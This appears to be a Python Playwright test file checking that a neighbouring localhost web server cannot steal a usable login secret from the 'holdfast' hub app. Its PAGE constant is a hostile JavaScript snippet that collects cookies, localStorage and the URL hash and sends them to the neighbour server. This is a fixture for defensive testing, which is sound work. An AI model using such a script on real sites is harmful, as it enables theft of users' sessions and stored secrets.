"""Another web server on this machine never gets anything that lets it into the hub, in a real browser."""

from __future__ import annotations

import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import Window
from tests.browser.hub_process import HubProcess

# What a hostile server would do: have its page fetch from itself under the page's own host, and tell it all.
PAGE = b"""<!doctype html><title>neighbor</title><script>
const told = [document.cookie, JSON.stringify({...localStorage}), location.hash];
fetch("/told?" + encodeURIComponent(told.join("|")), {credentials: "include"})
  .then(() => { document.title = "done"; });
</script>"""


class Neighbor:
    """A web server of another program on this machine; it remembers every header and address."""

    def __init__(self) -> None:
        self.seen: list[str] = []
        self.cookies: list[str] = []
        neighbor = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                neighbor.seen.append(f"{self.path}\n{self.headers}")
                neighbor.cookies += self.headers.get_all("cookie", [])
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(PAGE)

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def neighbor() -> Iterator[Neighbor]:
    made = Neighbor()
    yield made
    made.server.shutdown()
    made.server.server_close()


def status(hub: HubProcess, cookie: str, path: str = "/api/sessions") -> int:
    """What the hub answers to a cookie that was taken."""
    headers = {
        "cookie": cookie,
        "sec-fetch-site": "same-origin",
        "host": hub.page_url.removeprefix("http://"),
    }
    request = urllib.request.Request(f"{hub.url}{path}", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as refused:
        return refused.code


def test_one_click_opens_the_page_and_no_other_port_gets_a_usable_secret(
    hub: HubProcess, window: Window, neighbor: Neighbor
) -> None:
    page = window.open(hub)  # the address that `holdfast up` prints
    assert page.url.startswith(hub.page_url) and hub.token not in page.url
    (cookie,) = page.context.cookies()
    assert cookie.get("domain") == "holdfast.localhost" and hub.token not in str(cookie.get("value"))
    other = page.context.new_page()
    for host in ("127.0.0.1", "localhost"):
        other.goto(f"http://{host}:{neighbor.port}/")
        expect(other).to_have_title("done")
    assert neighbor.seen and not neighbor.cookies
    # Even one that has the person opened under the hub's own host, where cookies of all ports are one.
    other.goto(f"http://holdfast.localhost:{neighbor.port}/")
    expect(other).to_have_title("done")
    assert neighbor.cookies, "cookies ignore ports"
    told = "\n".join(neighbor.seen)
    key = page.evaluate("localStorage.getItem('holdfast.key')")
    assert key and key not in told and hub.token not in told
    for taken in neighbor.cookies:
        assert status(hub, taken) == 401
        assert status(hub, taken, "/api/stream") == 401
        assert status(hub, taken, f"/api/sessions?key={key}") == 200, "the page itself is in"


def test_a_login_that_is_revoked_asks_for_the_token(hub: HubProcess, window: Window) -> None:
    page = window.open(hub)
    hub.ask("DELETE", "/api/logins")
    page.reload()
    page.get_by_label("Token").fill(hub.token)
    page.get_by_role("button", name="Open").click()
    page.wait_for_selector("#line.live")
    page.evaluate("localStorage.clear()")
    page.reload()  # the cookie alone shows an empty page, which asks
    page.get_by_label("Token").wait_for()
